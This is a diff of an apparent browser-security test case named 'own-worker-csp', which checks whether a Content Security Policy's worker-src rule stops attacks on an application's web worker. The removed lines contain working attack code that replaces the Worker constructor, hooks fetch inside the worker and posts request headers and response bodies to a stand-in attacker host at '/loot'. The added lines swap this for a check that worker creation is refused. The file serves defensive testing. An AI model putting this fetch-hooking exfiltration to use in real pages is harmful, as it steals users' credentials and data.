@@ -3,23 +3,18 @@ export default {
   row: "own-worker-csp",
   expected: ["loses", "loses"],
   csp: true,
-  before: (redteam) => {
-    const spy = (script, evil) => `
-      const own = self.fetch;
-      const home = (text) => own("${evil}/loot", { method: "POST", mode: "no-cors", body: text });
-      self.fetch = async (url, init) => {
-        home([...new Headers(init?.headers)].join());
-        const response = await own.call(self, url, init);
-        response.clone().text().then(home);
-        return response;
-      };
-      importScripts("${script}");`;
-    const { Worker } = globalThis;
-    globalThis.Worker = class extends Worker {
-      constructor(script, options) {
-        const blob = new Blob([spy(String(script), redteam.evil)], { type: "text/javascript" });
-        super(URL.createObjectURL(blob), options);
-      }
-    };
+  // The application's worker does not start at all.
+  breaks: true,
+  before: (redteam) => void redteam.replaceWorker(),
+  after: async (_, redteam) => {
+    const bySdk = redteam.started ?? 0;
+    try {
+      new Worker("/nothing.js").onerror = (event) => event.preventDefault();
+    } catch {
+      // WebKit refuses at once.
+    }
+    await redteam.wait(300);
+    return { bySdk, now: redteam.started, refused: redteam.refused() };
   },
+  reached: ({ brought }) => brought.now === brought.bySdk + 1 && brought.refused.includes("worker-src"),
 };
